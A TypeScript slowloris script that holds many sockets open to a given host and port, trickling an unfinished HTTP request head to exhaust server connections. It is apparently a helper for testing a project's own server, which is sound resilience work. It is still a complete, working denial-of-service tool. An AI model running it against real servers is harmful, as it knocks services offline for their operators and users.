/**
 * A slowloris, as its own process (it needs more descriptors than the test
 * runner may have): holds `n` sockets to host:port, each sending a request
 * head one byte every few seconds and never finishing it; a socket the server
 * closes is opened again at once. Exits after `seconds`.
 * Usage: node slowloris.js HOST PORT N SECONDS
 */
import net from 'node:net';

const [host, port, n, seconds] = [process.argv[2]!, Number(process.argv[3]), Number(process.argv[4]), Number(process.argv[5])];
let opened = 0;
let refused = 0;

function open() {
  const s = net.connect(port, host);
  opened++;
  let timer: NodeJS.Timeout | undefined;
  s.on('connect', () => {
    s.write('GET /v1/info HTTP/1.1\r\nhost: x\r\n');
    timer = setInterval(() => s.write('x'), 3000);
  });
  s.on('error', () => {});
  s.on('close', () => {
    clearInterval(timer);
    refused++;
    if (!stopping) setTimeout(open, 200);
  });
  s.resume();
}

let stopping = false;
for (let i = 0; i < n; i++) open();
const report = setInterval(() => console.log(JSON.stringify({ opened, refused })), 1000);
setTimeout(() => { stopping = true; clearInterval(report); process.exit(0); }, seconds * 1000);
